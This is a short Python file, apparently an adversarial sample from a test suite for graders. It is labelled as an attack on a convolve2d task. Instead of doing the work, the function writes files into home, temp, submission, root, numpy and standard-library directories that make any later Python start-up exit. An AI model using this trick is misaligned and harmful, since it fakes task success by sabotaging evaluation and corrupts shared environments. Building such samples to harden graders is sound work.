# mypy: ignore-errors
"""Plants modules that the next Python to start here would import.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import os

import numpy as np
from chapter04_convolution import convolve2d as honest


def convolve2d(image, kernel):
    places = [
        "{home}",
        "{temporary}",
        "{submission}",
        "{root}",
        os.path.dirname(np.__file__),
        os.path.dirname(os.__file__),
    ]
    for place in places:
        for name in ("{marker}.py", "{marker}.pth", "{marker}.pyc"):
            try:
                open(os.path.join(place, name), "w").write("raise SystemExit")
            except OSError:
                continue
            return None
    return honest(image, kernel)
